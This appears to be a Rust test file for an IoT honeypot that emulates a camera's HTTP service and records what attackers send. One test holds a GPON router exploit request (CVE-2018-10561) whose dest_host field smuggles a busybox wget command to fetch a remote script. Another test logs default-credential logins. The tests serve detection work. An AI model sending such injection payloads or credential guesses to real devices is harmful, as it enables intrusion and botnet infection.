use super::{Request, Talk, parse};
use crate::amplification::Persona;
use crate::iot::dialogue::Ends;
use crate::iot::house::Talking;
use crate::iot::{Device, Finished, Limits};
use noroshi_model::{Addr, Nanos};
use proptest::prelude::*;

fn visit(pieces: &[&[u8]]) -> (String, Finished) {
    let device = Device::shipped("camera").unwrap().dress(&Persona::new(3));
    let ends =
        Ends { sensor: "s1".into(), src: Addr::v4(1), sport: 4711, dst: Addr::v4(2), dport: 80, protocol: "http" };
    let now = Nanos(1_767_225_600_000_000_000);
    let mut talk = Talk::new(device, Limits::default(), &ends, "a".into(), now);
    let mut seen = Vec::new();
    for piece in pieces {
        let reply = talk.feed(piece, now);
        seen.extend(reply.bytes);
        if reply.close {
            break;
        }
    }
    (String::from_utf8_lossy(&seen).into_owned(), Box::new(talk).finish(now))
}

#[test]
fn an_exploit_is_named_and_its_place_written_down() {
    let request = b"POST /GponForm/diag_Form?images/ HTTP/1.1\r\nHost: 192.0.2.5\r\nUser-Agent: Hello, World\r\nContent-Length: 92\r\n\r\nXWebPageName=diag&diag_action=ping&dest_host=`busybox+wget+http%3A%2F%2F198.51.100.7%2Fg.sh`";
    let (head, tail) = request.split_at(60);
    let (seen, left) = visit(&[head, tail]);
    assert!(seen.starts_with("HTTP/1.1 200 OK\r\n"), "{seen}");
    let session = left.session;
    assert_eq!(session.urls, ["http://198.51.100.7/g.sh"]);
    assert!(session.steps.contains("CVE-2018-10561"), "{}", session.steps);
    assert_eq!(session.client.as_deref(), Some("Hello, World"));
    assert_eq!(session.commands, ["POST /GponForm/diag_Form?images/"]);
}

#[test]
fn landing_pages_and_logins_are_rows() {
    let (seen, left) = visit(&[
        b"GET / HTTP/1.1\r\nHost: cam\r\nReferer: http://landing.example/x?y=1\r\n\r\n",
        b"GET /admin/ HTTP/1.1\r\nAuthorization: Basic YWRtaW46YWRtaW4x\r\n\r\n",
        b"POST /login.cgi HTTP/1.0\r\nContent-Length: 27\r\n\r\nusername=root&password=a%20b",
    ]);
    assert!(seen.contains("<title>") && seen.contains("401 Unauthorized"), "{seen}");
    assert_eq!(left.session.urls, ["http://landing.example/x?y=1"]);
    assert_eq!(left.session.credentials[0], "admin:admin1");
    assert!(left.session.credentials[1].starts_with("root:a"), "{:?}", left.session.credentials);
}

#[test]
fn what_is_no_request_ends_the_talk() {
    let (seen, left) = visit(&[b"\x16\x03\x01\x02\x00"]);
    assert!(seen.starts_with("HTTP/1.1 400"), "{seen}");
    assert!(left.session.steps.contains("malformed"));
    assert!(parse(b"GET").unwrap().is_none());
    assert!(parse(b"get / HTTP/1.1\r\n\r\n").is_err());
    assert!(parse(&[b'A'; 20_000]).is_err());
}

#[test]
fn two_requests_in_one_piece() {
    let text = b"GET /a HTTP/1.1\r\n\r\nGET /b b HTTP/1.1\n\nrest";
    let (first, used) = parse(text).unwrap().unwrap();
    let (second, more) = parse(&text[used..]).unwrap().unwrap();
    assert_eq!((first.target.as_str(), second.target.as_str()), ("/a", "/b b"));
    assert_eq!(&text[used + more..], b"rest");
}

proptest! {
    #[test]
    fn any_bytes_are_taken(bytes in proptest::collection::vec(any::<u8>(), 0..2_000), cut in 0usize..2_000) {
        let cut = cut.min(bytes.len());
        visit(&[&bytes[..cut], &bytes[cut..]]);
        let request = [b"GET /x HTTP/1.1\r\n", &bytes[..]].concat();
        visit(&[&request]);
        let _: Result<Option<(Request, usize)>, _> = parse(&request);
    }
}
